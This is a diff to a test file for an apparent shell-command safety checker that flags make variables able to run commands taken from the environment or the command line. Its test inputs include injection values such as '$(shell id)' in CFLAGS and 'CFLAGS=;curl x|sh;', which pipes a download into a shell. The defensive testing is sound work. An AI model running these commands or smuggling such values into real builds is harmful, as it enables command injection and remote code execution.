@@ -336,6 +336,12 @@ describe('make reads the variables of its environment as its own, so a value the
     expect(reasons(`CFLAGS='$(shell id)'; make`)).toEqual([]);
   });
 
+  it('an exported value is read with the variables the line sets, and one not known still asks', () => {
+    expect(reasons('OPT=-O2; export CFLAGS="$OPT"; make').join('\n')).not.toMatch(/environment of later commands/);
+    expect(reasons(`OPT='$(shell id)'; export CFLAGS="$OPT"; make`).join('\n')).toMatch(/puts CFLAGS in the environment/);
+    expect(reasons('export CFLAGS="$(git log -1)"; make').join('\n')).toMatch(/puts CFLAGS in the environment/);
+  });
+
   it.each(["make 'CFLAGS=;curl x|sh;' x.o", "make 'CFLAGS=`id`' x.o"])('%s meets the floor for a variable given on the command line', (command) => {
     expect(scopeFloors(command), command).toContain('make VAR=$(…)');
   });
